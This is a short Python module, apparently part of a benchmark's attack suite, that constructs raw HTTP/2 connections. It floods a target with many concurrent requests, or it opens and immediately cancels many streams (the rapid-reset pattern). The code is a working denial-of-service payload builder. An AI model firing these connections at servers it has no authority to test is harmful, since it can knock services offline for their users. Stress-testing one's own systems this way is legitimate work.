"""Bytes of HTTP/2 (RFC 9113), as a client with prior knowledge sends them."""

from benchmarks.attacks.target import Target

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END = 0x1 | 0x4  # Of the stream, and of its headers.
CANCEL = (8).to_bytes(4, "big")
INITIAL_WINDOW_SIZE = (4).to_bytes(2, "big")


def streams(target: Target, path: bytes, count: int, *, window: int = 1 << 16) -> bytes:
    """Return a connection with many concurrent requests, each with the window for its response."""
    settings = INITIAL_WINDOW_SIZE + window.to_bytes(4, "big")
    frames = [_frame(HEADERS, END, stream, _head(target, path)) for stream in _numbers(count)]
    return PREFACE + _frame(SETTINGS, 0, 0, settings) + b"".join(frames)


def resets(target: Target, path: bytes, count: int) -> bytes:
    """Return a connection with many requests, each of which is cancelled immediately."""
    head = _head(target, path)
    pairs = [
        _frame(HEADERS, END, stream, head) + _frame(RST_STREAM, 0, stream, CANCEL)
        for stream in _numbers(count)
    ]
    return PREFACE + _frame(SETTINGS, 0, 0, b"") + b"".join(pairs)


def _numbers(count: int) -> range:
    return range(1, 2 * count, 2)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    length = len(payload).to_bytes(3, "big")
    return length + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _head(target: Target, path: bytes) -> bytes:
    """Return the fields in HPACK (RFC 7541), without its tables of what was sent before."""
    block = b"\x82\x86\x01\x01x\x04" + _text(path)  # GET, http, the authority `x`, the path.
    if target.key is not None:
        block += b"\x00" + _text(b"x-api-key") + _text(target.key)
    return block


def _text(value: bytes) -> bytes:
    return bytes([len(value)]) + value
